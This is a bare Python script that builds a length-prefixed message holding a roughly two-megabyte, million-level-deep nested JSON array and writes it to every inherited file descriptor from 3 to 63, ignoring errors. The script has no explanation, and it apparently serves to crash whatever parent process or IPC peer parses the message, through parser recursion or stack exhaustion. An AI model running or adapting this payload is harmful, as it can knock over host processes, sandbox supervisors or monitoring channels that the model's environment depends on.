import os
import struct

header = b"[" * 2**20 + b"]" * 2**20
body = struct.pack("<I", len(header)) + header + struct.pack("<Q", 2) + b"{}"
frame = struct.pack("<Q", len(body)) + body
for descriptor in range(3, 64):
    try:
        os.write(descriptor, frame)
    except OSError:
        pass
